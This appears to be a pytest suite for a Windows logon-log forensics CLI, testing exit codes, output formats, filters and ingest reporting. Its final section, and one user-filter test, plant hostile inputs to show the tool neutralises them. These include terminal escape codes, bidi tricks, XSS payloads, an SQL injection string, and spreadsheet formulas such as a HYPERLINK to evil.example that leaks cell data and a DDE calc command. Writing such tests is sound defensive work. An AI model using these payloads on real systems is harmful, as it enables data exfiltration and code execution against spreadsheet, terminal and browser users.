"""The command line as its users meet it: processes, what they write to stdout and stderr, and their exit codes."""

import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from importlib import import_module
from pathlib import Path
from typing import Any, get_args
from zoneinfo import ZoneInfo

import click
import duckdb
import filelock
import pytest
from making_cases import Company, Done, company, environment, here, run
from pyarrow import parquet

from logontracks import __version__, schema
from logontracks.case import TABLES, Case
from logontracks.cli import COMMANDS
from logontracks.cli.options import Format
from logontracks.simulate.evtx_writer import Event, filetime, write_evtx
from logontracks.simulate.templates import SECURITY, template

FORMATS = get_args(Format)
moment = datetime.fromisoformat
ANNA = "S-1-5-21-2718281828-1414213562-1732050808-1121"
READERS = {
    "info": ("info",),
    "info of sources": ("info", "--sources"),
    "events": ("events", "--user", "elif.firat", "--event", "4624"),
    "problems": ("problems",),
    "sql": ("sql", "SELECT event_id, COUNT(*) AS n, MIN(time) AS first FROM events GROUP BY ALL ORDER BY n, event_id"),
}
every_reader = pytest.mark.parametrize("command", READERS.values(), ids=READERS)
no_windows = pytest.mark.skipif(os.name == "nt", reason="signals and pipes are those of POSIX")

Row = dict[str, Any]


@pytest.fixture(scope="session")
def firm(tmp_path_factory: pytest.TempPathFactory) -> Company:
    return company(tmp_path_factory)


@pytest.fixture(scope="session")
def everything(firm: Company) -> list[Row]:
    """All events of the company, read from the Parquet files by hand: what the command line is compared with."""
    names = [
        "time", "computer_key", "channel", "event_id", "source_address", "target_name", "target_domain", "target_sid",
        "subject_name", "subject_domain", "subject_sid", "record_sid", "member_sid", "target_logon_id",
        "subject_logon_id", "target_linked_logon_id",
    ]  # fmt: skip
    files = str(firm.case / "events" / "*" / "*.parquet")
    query = f"SELECT {', '.join(names)} FROM read_parquet(?, hive_partitioning = false, union_by_name = true)"
    return [dict(zip(names, row, strict=True)) for row in duckdb.connect().execute(query, [files]).fetchall()]


@pytest.fixture
def one_log(firm: Company) -> Path:
    """One small log of the company."""
    return firm.logs / "WKS-101" / "System.evtx"


def digest(case: Path) -> str:
    return Case(case).digest()


def is_error(done: Done, code: int) -> None:
    """A message for people, nothing on stdout, and no traceback."""
    assert done.code == code, done.said
    assert done.out == b""
    assert "Error: " in done.said
    assert "Traceback" not in done.said
    assert "nanobind" not in done.said


# Starting


@pytest.mark.parametrize(
    "line", ["--version", "--help", "", "nonsense", "events --format xml", *(f"{name} --help" for name in COMMANDS)]
)
def test_what_reads_no_case_loads_no_engine(line):
    code = f"""
import sys
from logontracks.cli import main
from logontracks.cli.options import run
run(main, {line.split()!r})
print("HEAVY", sorted({{"duckdb", "pyarrow", "rich", "evtx", "numpy"}} & set(sys.modules)))"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60)
    assert done.stdout.endswith("HEAVY []\n")


def test_version():
    assert run("--version") == Done(0, f"logontracks {__version__}\n".encode(), "")


def test_the_script_is_installed():
    script = Path(sys.executable).with_name("logontracks")
    if not script.exists() and not script.with_suffix(".exe").exists():
        pytest.skip("the package is not installed in this environment")
    assert subprocess.run([script, "--version"], capture_output=True, check=True).stdout == run("--version").out


def test_help_names_every_command_and_option():
    overview = run("--help").text
    for name in COMMANDS:
        assert re.search(rf"^  {name} ", overview, re.MULTILINE)
        command: click.Command = import_module(f"logontracks.cli.{name}").command
        for asked in ("--help", "-h"):
            done = run(name, asked)
            assert (done.code, done.said) == (0, "")
            assert len(max(done.text.splitlines(), key=len)) <= 120
        for parameter in command.params:
            if isinstance(parameter, click.Option):
                assert parameter.help, parameter.name
                assert parameter.opts[0] in done.text


# Exit codes


def test_wrong_command_lines_end_with_2(firm, capsysbinary):
    case = ("--case", firm.case)
    for wrong in (
        ("nonsense",),
        ("event", *case),
        ("--nonsense",),
        ("events", "--nonsense", *case),
        ("events", "extra", *case),
        ("events", "--format", "xml", *case),
        ("events", "--limit", "-1", *case),
        ("events", "--limit", "many", *case),
        ("events", "--event", "4624x", *case),
        ("events", "--event", "", *case),
        ("events", "--event", ",", *case),
        ("events", "--logon-id", "0x10000000000000000", *case),
        ("events", "--since", "yesterday", *case),
        ("events", "--until", "2026-02-30", *case),
        ("events", "--since", "2026-10-08", "--until", "2026-10-07", *case),
        ("events", "--tz", "Europe/Atlantis", *case),
        ("events", "--output", firm.case, *case),
        ("events", "--output", firm.case / "no" / "such" / "folder.csv", *case),
        ("info", "--since", "2026-10-08", *case),
        ("problems", "--user", "anna", *case),
        ("sql", *case),
        ("sql", "SELECT 1", "SELECT 2", *case),
        ("sql", "SELECT nothing FROM nowhere", *case),
        ("sql", "SELECT 1", "--seconds", "0", *case),
        ("sql", "SELECT 1", "--memory", "plenty", *case),
        ("events", "--user", "", *case),
        ("sessions", "--host", " ", *case),
        ("sessions", "--min", "", *case),
        ("sessions", "--overlap", "", *case),
        ("failures", "--reason", "", *case),
        ("authentications", "--address", "", *case),
        ("authentications", "--protocol", "radius", *case),
        ("track", "", *case),
        ("hosts", "", *case),
        ("evidence", "", *case),
        ("code", ""),
        ("code", "0x123456789"),
        ("ingest",),
        ("ingest", firm.logs, "--jobs", "0"),
        ("ingest", firm.logs, "--source-tz", "Mars"),
    ):
        is_error(here(capsysbinary, *wrong), 2)
    is_error(run("events", "--nonsense"), 2)


def test_no_command_shows_the_help():
    done = run()
    assert (done.code, done.out) == (2, b"")
    assert done.said == run("--help").text


def test_errors_say_what_to_try():
    assert "Did you mean" in run("events", "--usr", "x").said
    assert "Europe/Berlin" in run("events", "--tz", "berln").said
    assert "Hint: Write 2026-10-05" in run("events", "--since", "x").said


@every_reader
def test_what_is_no_case_ends_with_5(command, firm, tmp_path, capsysbinary):
    newer = tmp_path / "newer"
    damaged = tmp_path / "damaged"
    for folder, text in ((newer, '{"format": 99}'), (damaged, '{"format"')):
        folder.mkdir()
        (folder / "case.json").write_text(text)
    assert run(*command, "--case", tmp_path).code == 5
    for folder, words in (
        (tmp_path, "there is no case"),
        (tmp_path / "missing", "there is no case"),
        (firm.logs / "DC01" / "System.evtx", "is a file"),
        (newer, "99"),
        (damaged, "is damaged"),
    ):
        done = here(capsysbinary, *command, "--case", folder)
        is_error(done, 5)
        assert words in done.said


def test_a_case_that_cannot_be_written_ends_with_5(firm, one_log, tmp_path):
    (tmp_path / "file").write_text("")
    (tmp_path / "others").mkdir()
    (tmp_path / "others" / "thesis.docx").write_text("")
    for case in (tmp_path / "file", tmp_path / "others", one_log):
        is_error(run("ingest", one_log, "--case", case), 5)
    assert (tmp_path / "others" / "thesis.docx").exists()
    assert run("ingest", one_log, "--case", tmp_path / "case").code == 0
    before = digest(tmp_path / "case")
    with filelock.FileLock(tmp_path / "case" / ".lock"):
        done = run("ingest", firm.logs / "DC01", "--case", tmp_path / "case")
        is_error(done, 5)
        assert "another process" in done.said
        assert run("info", "--case", tmp_path / "case").code == 0  # readers need no lock
    assert digest(tmp_path / "case") == before


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_disk_ends_with_1_and_a_message(firm):
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            [sys.executable, "-m", "logontracks", "events", "--case", firm.case, "--format", "csv"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
            timeout=60,
        )
    assert done.returncode == 1
    assert (
        done.stderr == "Error: cannot write to stdout: No space left on device\nHint: Choose a place with more space.\n"
    )


# Reading


@every_reader
def test_every_form_says_the_same(command, firm, tmp_path, capsysbinary):
    """And stdout has nothing else; --output has the same bytes as stdout."""
    if command == ("problems",):
        case = tmp_path / "case"
        assert run("ingest", damaged_logs(firm, tmp_path), "--case", case).code == 4
    else:
        case = firm.case
    answers = {}
    for form in FORMATS:
        arguments = (*command, "--case", case, "--format", form)
        # bytes that a stream of text could change go through a pipe
        done = run(*arguments) if form in {"csv", "parquet"} else here(capsysbinary, *arguments)
        assert (done.code, done.said) == (0, "")
        answers[form] = done.out
        file = tmp_path / f"answer.{form}"
        if form != "table":
            assert here(capsysbinary, *command, "--case", case, "--output", file) == Done(0, b"", "")
            assert file.read_bytes() == done.out
    rows = [json.loads(line) for line in answers["jsonl"].decode().splitlines()]
    assert rows
    whole = json.loads(answers["json"])
    assert rows == (whole["source_list" if "--sources" in command else "host_list"] if command[0] == "info" else whole)
    text = answers["csv"].decode()
    assert text.count("\n") == text.count("\r\n") == len(rows) + 1
    told = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [list(row) for row in told] == [list(row) for row in rows]
    for name in set(rows[0]) - {"data"}:
        of_both = [(as_csv(row[name]), one[name].removeprefix("'")) for row, one in zip(rows, told, strict=True)]
        assert all(left == right for left, right in of_both), name
    table = parquet.read_table(io.BytesIO(answers["parquet"]))
    assert table.column_names == list(rows[0])
    for name in table.column_names:
        values = table[name].to_pylist()
        assert [value is None for value in values] == [row[name] is None for row in rows]
        if not any(isinstance(value, datetime) for value in values) and name != "data":
            assert values == [row[name] for row in rows]
    lines = answers["table"].decode().splitlines()
    if command[0] == "info":
        lines = lines[lines.index("") + 1 :]
    assert len(lines) == len(rows) + 2
    assert set(lines[1]) <= {"-", " "}


def as_csv(value: Any) -> str:
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def test_the_table_of_events_is_in_words(firm):
    done = run(
        "events", "--case", firm.case, "--user", "anna.berg", "--event", "4625", "--host", "WKS-101", "--limit", "1"
    )
    head, _, line = done.text.splitlines()
    assert " ".join(head.split()) == "Time (UTC) Host Event What Account Logon Source Logon id By Object Result"
    for word in ("WKS-101.larch.example", "4625", "An account failed to log on", "LARCH\\anna.berg", "Interactive"):
        assert word in line
    assert "password" in line


def test_the_table_tells_accounts_apart(firm, capsysbinary):
    """Who used whose credentials for which host; the address of that host is not where anybody came from."""

    def line(*words: str, **wanted: str) -> list[str]:
        options = [part for name, value in wanted.items() for part in (f"--{name}", value)]
        lines = here(capsysbinary, "events", "--case", firm.case, *options).text.splitlines()
        (found, *_) = [line for line in lines if all(word in line for word in words)]
        head, rule = lines[:2]
        starts = [found.start() for found in re.finditer("-+", rule)]
        cells = [found[low:high].strip() for low, high in zip(starts, [*starts[1:], None], strict=True)]
        titles = [head[low:high].strip() for low, high in zip(starts, [*starts[1:], None], strict=True)]
        return [
            dict(zip(titles, cells, strict=True))[name] for name in ("Account", "Source", "Logon id", "By", "Object")
        ]

    account, source, logon_id, by, target = line("svc-backup", event="4648", host="WKS-101")
    assert account == "LARCH.EXAMPLE\\svc-backup"
    assert (source, logon_id) == ("", "")
    assert re.fullmatch(r"LARCH\\anna\.berg 0x[0-9a-f]+", by)
    assert target.startswith("APP01.larch.example")
    account, source, logon_id, by, _ = line("anna.berg", event="4624", host="WKS-101", channel="security")
    assert account == "LARCH\\anna.berg"
    assert source
    assert logon_id.startswith("0x")
    assert by == ""  # SYSTEM lets everybody log on
    account, source, logon_id, *_ = line("locked out", event="4740")
    assert source.startswith("WKS-")
    assert logon_id == ""


def test_nothing_found_is_no_error(firm, capsysbinary):
    done = here(capsysbinary, "events", "--case", firm.case, "--user", "nobody")
    assert done.code == 0
    assert len(done.text.splitlines()) == 2
    reach = "Security logs of 9 hosts start 2026-10-05 00:01 UTC and end 2026-10-11 23:59 UTC."
    assert done.said.splitlines()[:2] == ["No event fits.", reach]
    assert here(capsysbinary, "events", "--case", firm.case, "--user", "nobody", "--format", "jsonl") == Done(
        0, b"", ""
    )
    assert here(capsysbinary, "events", "--case", firm.case, "--user", "nobody", "--format", "json") == Done(
        0, b"[]\n", ""
    )
    csv_of_none = here(capsysbinary, "events", "--case", firm.case, "--user", "nobody", "--format", "csv").text
    assert csv_of_none == ",".join(column.name for column in schema.COLUMNS) + "\r\n"
    done = here(capsysbinary, "problems", "--case", firm.case)
    assert (done.code, done.said) == (0, "No problems.\n")


def names(row: Row) -> set[tuple[str, str]]:
    """The accounts of a record, as (name, domain)."""
    sides = (("target_name", "target_domain"), ("subject_name", "subject_domain"))
    return {((row[name] or "").lower(), (row[domain] or "").lower()) for name, domain in sides}


def sids(row: Row) -> set[str]:
    return {row[f"{part}_sid"] for part in ("target", "subject", "record", "member")} - {None}


USERS: dict[str, Callable[[Row], bool]] = {
    "anna.berg": lambda row: "anna.berg" in {name for name, _ in names(row)},
    "ANNA.Berg": lambda row: "anna.berg" in {name for name, _ in names(row)},
    "LARCH\\anna.berg": lambda row: {("anna.berg", "larch"), ("anna.berg", "larch.example")} & names(row) != set(),
    "larch.EXAMPLE\\Anna.Berg": lambda row: (
        {("anna.berg", "larch"), ("anna.berg", "larch.example")} & names(row) != set()
    ),
    "anna.berg@larch.example": lambda row: (
        {("anna.berg", "larch"), ("anna.berg", "larch.example")} & names(row) != set()
    ),
    ANNA: lambda row: ANNA in sids(row),
    ANNA.lower(): lambda row: ANNA in sids(row),
    "anna*": lambda row: any(name.startswith("anna") for name, _ in names(row)),
    "*.BERG": lambda row: any(name.endswith(".berg") for name, _ in names(row)),
    "a*a.b*g": lambda row: "anna.berg" in {name for name, _ in names(row)},
    "LARCH*\\anna.berg": lambda row: {("anna.berg", "larch"), ("anna.berg", "larch.example")} & names(row) != set(),
    "LARCH\\*": lambda row: {"larch", "larch.example"} & {domain for name, domain in names(row) if name} != set(),
    "nt authority\\SYSTEM": lambda row: ("system", "nt authority") in names(row),
    "WKS-101$": lambda row: "wks-101$" in {name for name, _ in names(row)},
    "*": lambda row: any(name for name, _ in names(row)),
}


@pytest.mark.parametrize("user", USERS)
def test_user(firm, everything, user, capsysbinary):
    expected = sum(map(USERS[user], everything))
    assert expected
    assert len(here(capsysbinary, "events", "--case", firm.case, "--format", "jsonl", "--user", user).rows) == expected


@pytest.mark.parametrize(
    "user", ["anna_berg", "anna%", "ann", "\\", "@", "' OR TRUE --", "anna.berg ", "\udcff", "?nna*"]
)
def test_user_that_nobody_is(firm, user, capsysbinary):
    assert here(capsysbinary, "events", "--case", firm.case, "--format", "jsonl", "--user", user).rows == []


FILTERS: dict[str, Callable[[Row], bool]] = {
    "--host DC01": lambda row: row["computer_key"] == "dc01.larch.example",
    "--host dc01.LARCH.example": lambda row: row["computer_key"] == "dc01.larch.example",
    "--host wks-*": lambda row: row["computer_key"].startswith("wks-"),
    "--host *.example": lambda row: row["computer_key"].endswith(".example"),
    "--host DC01 --host DC02": lambda row: row["computer_key"].startswith("dc"),
    "--host DC0": lambda _: False,
    "--host larch.example": lambda _: False,
    "--event 4625": lambda row: row["event_id"] == 4625,
    "--event 4625,4771": lambda row: row["event_id"] in {4625, 4771},
    "--event 4625 --event 0x12a3": lambda row: row["event_id"] in {4625, 4771},
    "--channel system": lambda row: row["channel"] == "System",
    "--channel TerminalServices": lambda row: "TerminalServices" in row["channel"],
    "--channel security --channel system": lambda row: row["channel"] in {"Security", "System"},
    "--address 10.20.1.101": lambda row: row["source_address"] == "10.20.1.101",
    "--address 10.20.1.*": lambda row: (row["source_address"] or "").startswith("10.20.1."),
    "--logon-id 0x3e7": lambda row: 999 in {row[f"{part}_logon_id"] for part in ("target", "subject", "target_linked")},
    "--logon-id 999": lambda row: 999 in {row[f"{part}_logon_id"] for part in ("target", "subject", "target_linked")},
    "--logon-id 0xffffffffffffffff": lambda _: False,
    "--user elif.firat --host DC01 --event 4768": lambda row: (
        row["computer_key"] == "dc01.larch.example"
        and row["event_id"] == 4768
        and "elif.firat" in {name for name, _ in names(row)}
    ),
    "--since 2026-10-08": lambda row: row["time"] >= moment("2026-10-08"),
    "--until 2026-10-08": lambda row: row["time"] < moment("2026-10-09"),
    "--since 2026-10-08 --until 2026-10-08": lambda row: row["time"].date().isoformat() == "2026-10-08",
    "--since 2026-10-08T10:00 --until 2026-10-08T10:30:15.5": lambda row: (
        moment("2026-10-08T10:00") <= row["time"] < moment("2026-10-08T10:30:15.500000")
    ),
    "--since 2026-10-08 --tz America/New_York": lambda row: row["time"] >= moment("2026-10-08T04:00"),
    "--since 2026-10-08T10:00+02:00 --tz Asia/Tokyo": lambda row: row["time"] >= moment("2026-10-08T08:00"),
    "--until 1999-12-31": lambda _: False,
    "--limit 0": lambda _: True,
    "--limit 99999999999999999999": lambda _: True,
}  # fmt: skip


NOTHING = {"--host DC0", "--host larch.example", "--until 1999-12-31", "--logon-id 0xffffffffffffffff"}


@pytest.mark.parametrize("line", FILTERS)
def test_filter(firm, everything, line, capsysbinary):
    expected = sum(map(FILTERS[line], everything))
    assert bool(expected) == (line not in NOTHING)
    rows = here(capsysbinary, "events", "--case", firm.case, "--format", "jsonl", *line.split()).rows
    assert len(rows) == expected
    assert [row["time"] for row in rows] == sorted(row["time"] for row in rows)


def test_times_are_shown_in_the_zone_asked_for(firm, capsysbinary):
    arguments = ("events", "--case", firm.case, "--user", "anna.berg", "--limit", "3")
    utc = here(capsysbinary, *arguments, "--format", "jsonl").rows
    berlin = here(capsysbinary, *arguments, "--format", "jsonl", "--tz", "europe/berlin").rows
    assert all(row["time"].endswith("Z") for row in utc)
    assert all(row["time"].endswith("+02:00") for row in berlin)
    assert [moment(row["time"]) for row in utc] == [moment(r["time"]) for r in berlin]
    first = moment(utc[0]["time"]).astimezone(ZoneInfo("Europe/Berlin"))
    table = here(capsysbinary, *arguments, "--tz", "Europe/Berlin").text.splitlines()
    assert table[0].startswith("Time (Europe/Berlin)")
    assert table[2].startswith(f"{first:%Y-%m-%d %H:%M:%S} ")
    assert (
        here(capsysbinary, *arguments, "--microseconds")
        .text.splitlines()[2]
        .startswith(utc[0]["time"].rstrip("Z").replace("T", " "))
    )
    stored = [here(capsysbinary, *arguments, "--format", "parquet", "--tz", zone).out for zone in ("UTC", "Asia/Tokyo")]
    assert stored[0] == stored[1]


def test_limit_cuts_and_says_so(firm, everything, capsysbinary):
    of = f"{len(everything):,}"
    for form, lines in (("table", 12), ("jsonl", 10), ("csv", 11), ("json", 12)):
        done = here(capsysbinary, "events", "--case", firm.case, "--limit", "10", "--format", form)
        assert done.said == f"First 10 of {of} rows (--limit 0 for all).\n"
        assert len(done.text.splitlines()) == lines
    done = here(capsysbinary, "events", "--case", firm.case)
    assert len(done.text.splitlines()) == 1002
    assert done.said == f"First 1,000 of {of} rows (--limit 0 for all).\n"
    assert (
        len(here(capsysbinary, "events", "--case", firm.case, "--limit", "0").text.splitlines()) == len(everything) + 2
    )
    assert (
        len(here(capsysbinary, "events", "--case", firm.case, "--format", "csv").text.splitlines())
        == len(everything) + 1
    )
    done = here(capsysbinary, "info", "--case", firm.case, "--format", "json", "--limit", "2")
    assert len(json.loads(done.text)["host_list"]) == 2
    assert done.said == "First 2 of 9 rows (--limit 0 for all).\n"


def test_info(firm, everything):
    told = json.loads(run("info", "--case", firm.case, "--format", "json", "--digest").text)
    hosts = Counter(row["computer_key"] for row in everything)
    assert {row["host"].lower(): row["events"] for row in told["host_list"]} == hosts
    assert told["events"] == len(everything)
    assert told["hosts"] == len(hosts) == 9
    assert told["sources"] == len(list(firm.logs.rglob("*.evtx")))
    assert told["size_bytes"] == sum(path.stat().st_size for path in firm.logs.rglob("*.evtx"))
    assert told["digest"] == digest(firm.case)
    moments = [row["time"].replace(tzinfo=UTC) for row in everything]
    assert moment(told["first"]) == min(moments)
    assert moment(told["last"]) == max(moments)
    sources = run("info", "--case", firm.case, "--sources", "--format", "jsonl").rows
    assert sum(row["records"] for row in sources) == told["records"]
    assert sum(row["duplicates"] for row in sources) == told["duplicates"] > 0
    assert {row["name"] for row in sources} == {path.as_posix() for path in firm.logs.rglob("*.evtx")}
    text = run("info", "--case", firm.case).text
    assert f"events       {len(everything):,}\n" in text
    assert "DC01.larch.example" in text


def test_where_the_case_is(firm, tmp_path):
    asked = ("events", "--limit", "1", "--format", "jsonl")
    expected = run(*asked, "--case", firm.case)
    assert expected.rows
    assert run(*asked, env={"LOGONTRACKS_CASE": str(firm.case)}) == expected
    assert run(*asked, "--case", firm.case, env={"LOGONTRACKS_CASE": "/nowhere"}) == expected
    is_error(run(*asked, cwd=tmp_path), 5)
    if os.name != "nt":
        (tmp_path / "case").symlink_to(firm.case)
        assert run(*asked, cwd=tmp_path) == expected


# Ingesting


CLOSING = re.compile(
    r"Read +(?P<files>[0-9,]+) files \([0-9.,]+ MB\) in [0-9.]+ s(, [0-9,]+ records/s)?\n"
    r"Records +(?P<records>[0-9,]+) read, (?P<kept>[0-9,]+) kept, (?P<copies>[0-9,]+) of them copies\n"
    r"(Known +(?P<known>[0-9,]+) files were in the case already\n)?"
    r"(Left +(?P<left>[0-9,]+) files that hold no log of a form we read\n)?"
    r"(Case +(?P<hosts>[0-9,]+) hosts, 20[-0-9: ]+ to 20[-0-9: ]+ UTC\n)?"
    r"(Tables +(?P<sessions>[0-9,]+) sessions, [0-9,]+ accounts, [0-9,]+ failed logons, worked out in [0-9.]+ s\n)?"
    r"( +(?P<problems>[0-9,]+) problems: see `logontracks problems --case .+`\n)?"
)


def closing(done: Done) -> dict[str, int]:
    """The closing sum of an ingest; the parts that stay out are 0."""
    assert done.out == b""
    found = CLOSING.fullmatch(done.said)
    assert found, done.said
    return {name: int((text or "0").replace(",", "")) for name, text in found.groupdict().items()}


def damaged_logs(firm: Company, folder: Path) -> Path:
    """A sound log, one with a damaged chunk, and a file that is not what its name says."""
    logs = folder / "logs"
    logs.mkdir()
    shutil.copy(firm.logs / "WKS-102" / "System.evtx", logs / "sound.evtx")
    raw = bytearray((firm.logs / "DC01" / "Security.evtx").read_bytes())
    raw[4096 + 65536 + 600 : 4096 + 65536 + 20_000] = b"\xff" * 19_400
    (logs / "damaged.evtx").write_bytes(raw)
    (logs / "no log.evtx").write_text("this is text")
    return logs


def test_ingest_tells_on_stderr_what_it_did_and_twice_is_once(firm, tmp_path):
    case = tmp_path / "new" / "case"
    first = closing(run("ingest", firm.logs / "DC01", firm.logs / "WKS-101" / "System.evtx", "--case", case))
    assert (first["files"], first["known"], first["hosts"], first["problems"]) == (6, 0, 2, 0)
    assert first["kept"] == first["records"] > 6000
    before = digest(case)
    again = closing(run("ingest", firm.logs / "DC01", "--case", case, "--jobs", "1"))
    assert (again["files"], again["records"], again["known"]) == (0, 0, 5)
    assert digest(case) == before
    rest = closing(run("ingest", firm.logs, "--case", case, "--no-build"))
    assert rest["known"] == 6
    assert digest(case) == digest(firm.case)


def test_no_activity_leaves_out_what_sessions_did_until_it_is_asked_for(firm, tmp_path):
    log = firm.logs / "FS01"
    closing(run("ingest", log, "--case", tmp_path / "case", "--no-activity"))
    count = ("sql", "SELECT event_id, COUNT(*) AS n FROM events GROUP BY ALL", "--format", "jsonl", "--case")
    few = {row["event_id"]: row["n"] for row in run(*count, tmp_path / "case").rows}
    closing(run("ingest", log, "--case", tmp_path / "full"))
    full = {row["event_id"]: row["n"] for row in run(*count, tmp_path / "full").rows}
    gone = set(full) - set(few)
    assert gone >= {4688, 5140, 5145}
    assert not gone & {4624, 4625, 4634, 4647, 4648, 4672, 4768, 4769, 4778, 1102, 6005}
    assert few == {event: n for event, n in full.items() if event not in gone}
    closing(run("ingest", log, "--case", tmp_path / "case"))
    assert digest(tmp_path / "case") == digest(tmp_path / "full")


def test_ingest_of_nothing_readable_ends_with_3_and_makes_no_case(tmp_path, capsysbinary):
    logs = tmp_path / "logs"
    logs.mkdir()
    case = tmp_path / "case"
    (logs / "notes.txt").write_text("nothing\n")
    (logs / "empty.evtx").write_bytes(b"")
    (logs / "packed.zip").write_bytes(b"PK\x03\x04 and so on")
    for path, words in (
        (tmp_path / "missing", "No such file"),
        (logs, "nothing to read"),
        (logs / "notes.txt", "form is not known"),
        (logs / "empty.evtx", "it is empty"),
        (logs / "packed.zip", "unpack it"),
    ):
        done = here(capsysbinary, "ingest", path, "--case", case)
        is_error(done, 3)
        assert words in done.said
        assert "Hint: " in done.said
        assert not case.exists()


def test_ingest_of_a_mixture_reads_what_it_can_and_ends_with_4(firm, tmp_path):
    logs = damaged_logs(firm, tmp_path)
    (logs / "notes.txt").write_text("nothing\n")
    case = tmp_path / "case"
    done = run("ingest", logs, tmp_path / "missing.evtx", "--case", case)
    assert done.code == 4
    told = closing(done)
    assert (told["files"], told["left"], told["hosts"]) == (2, 2, 2)
    assert told["problems"] >= 3
    problems = run("problems", "--case", case, "--format", "jsonl").rows
    assert len(problems) == told["problems"]
    about = {Path(row["source"]).name: row for row in problems}
    assert set(about) == {"damaged.evtx", "no log.evtx", "missing.evtx"}
    assert about["damaged.evtx"]["position"] == "chunk 1"
    assert about["damaged.evtx"]["records_lost"] > 0
    assert about["missing.evtx"]["source_sha256"] is None
    assert "No such file" in about["missing.evtx"]["what"]
    assert len(run("events", "--case", case, "--host", "DC01", "--format", "jsonl").rows) > 5000
    assert run("info", "--case", case).code == 0


@no_windows
def test_what_may_not_be_read_or_written_is_told(one_log, tmp_path):
    powers = "-dac_override,-dac_read_search"  # by which root opens everything
    plain = ["setpriv", f"--bounding-set={powers}", f"--inh-caps={powers}"] if os.geteuid() == 0 else []
    if plain and not shutil.which("setpriv"):
        pytest.skip("root may read everything, and there is no setpriv to take that from it")
    logs, closed = tmp_path / "logs", tmp_path / "logs" / "closed"
    closed.mkdir(parents=True)
    for name in ("a.evtx", "b.evtx", "closed/c.evtx"):
        shutil.copy(one_log, logs / name)

    def ends(*line):
        command = [*plain, sys.executable, "-m", "logontracks", *map(str, line)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
        assert "Traceback" not in done.stderr
        return done.returncode, "Permission denied" in done.stderr

    (logs / "b.evtx").chmod(0)
    closed.chmod(0)
    try:
        assert ends("ingest", logs, "--no-build", "--case", tmp_path / "case")[0] == 4
        for path in (closed, closed / "c.evtx", logs / "b.evtx"):
            assert ends("ingest", path, "--case", tmp_path / "none") == (3, True)
        assert ends("ingest", logs / "a.evtx", "--case", closed / "case") == (5, True)
        assert ends("info", "--case", closed / "case") == (5, True)
        assert ends("info", "--case", tmp_path / "case", "--output", closed / "x.csv") == (2, True)
    finally:
        closed.chmod(0o700)
    told = {Path(row["source"]).name: row["what"] for row in run(
        "problems", "--case", tmp_path / "case", "--format", "jsonl").rows}  # fmt: skip
    assert told.keys() == {"b.evtx", "closed"}
    assert all("cannot be opened: Permission denied" in what for what in told.values())


def test_a_log_that_says_nothing_of_logons_makes_an_empty_case(tmp_path, capsysbinary):
    kind = template(SECURITY, 4688, 2)
    empty = [None for _ in kind.fields]
    write_evtx(tmp_path / "log.evtx", [Event(kind, filetime(datetime(2026, 10, 5, tzinfo=UTC)), "ws1", empty)])
    assert closing(run("ingest", tmp_path / "log.evtx", "--case", tmp_path / "case"))["kept"] == 0
    for command in READERS.values():
        for form in FORMATS:
            assert here(capsysbinary, *command, "--case", tmp_path / "case", "--format", form).code == 0


def test_names_of_files_may_be_any_bytes(one_log, tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    odd = os.fsdecode(b"caf\xe9 \xff.evtx")
    try:
        shutil.copy(one_log, logs / odd)
    except (OSError, UnicodeError):
        pytest.skip("this file system has names in UTF-8 only")
    closing(run("ingest", logs, "--case", tmp_path / "case"))
    (source,) = run("info", "--sources", "--case", tmp_path / "case", "--format", "jsonl").rows
    assert source["name"].rpartition("/")[2] == "caf\\udce9 \\udcff.evtx"


# Names chosen by attackers

HOSTILE = {
    "SubjectUserName": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "SubjectDomainName": "a\u202egpj.exe\u202c\u2066x",
    "TargetUserName": '=HYPERLINK("http://evil.example/?"&A1)',
    "TargetDomainName": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "WorkstationName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ProcessName": "C:\\a\r\nb\x00c\x9b31m\u2028\U000e0041\ufeff",
    "LogonProcessName": "+1",
    "AuthenticationPackageName": "-2+3",
    "LmPackageName": "\t=1",
    "IpAddress": "[bold red]10.0.0.1[/]",
}
HOST = "EVIL\u202e\x1b[31m"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    kind = template(SECURITY, 4624, 2)
    numbers = {"TargetLogonId": 0x1234, "LogonType": 3, "SubjectUserSid": ANNA, "TargetUserSid": ANNA}
    values = [
        (HOSTILE | numbers).get(name, "-" if form == "UnicodeString" else None if form in {"SID", "GUID"} else 0)
        for name, form in kind.fields
    ]
    start = filetime(datetime(2026, 10, 5, tzinfo=UTC))
    name = "=cmd\u202e.evtx" if os.name == "nt" else "=cmd\x1b[31m\u202e\n.evtx"
    write_evtx(folder / name, [Event(kind, start + n, HOST, values) for n in range(3)])
    (folder / name.replace("cmd", "bad")).write_text("no log")
    done = run("ingest", folder, "--case", folder / "case")
    assert done.code == 4
    assert_harmless(done.said.encode(), "table")
    return folder / "case"


def assert_harmless(data: bytes, form: str) -> None:
    """Nothing that a terminal acts on or an eye cannot see, and no cell that a spreadsheet computes."""
    text = data.decode()
    odd = {char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}}
    assert odd <= ({"\r", "\n"} if form == "csv" else {"\n"})
    if form == "csv":
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not re.match(r"[=+@\t\r]|-[^0-9]", cell), cell


@pytest.mark.parametrize("form", FORMATS)
def test_hostile_names_do_no_harm(hostile, form, capsysbinary):
    for command in (
        ("info",),
        ("info", "--sources"),
        ("events",),
        ("problems",),
        ("sql", "SELECT * FROM events"),
        ("sql", 'SELECT 1 AS "=1+1", 2 AS "\x1b[31m\u202e"'),
        ("sql", "SELECT data FROM events"),
    ):
        done = here(capsysbinary, *command, "--case", hostile, "--format", form)
        assert done.code == 0, done.said
        assert_harmless(done.said.encode(), "table")
        if form != "parquet":
            assert_harmless(done.out, form)
    done = run("events", "--case", hostile, "--format", form)
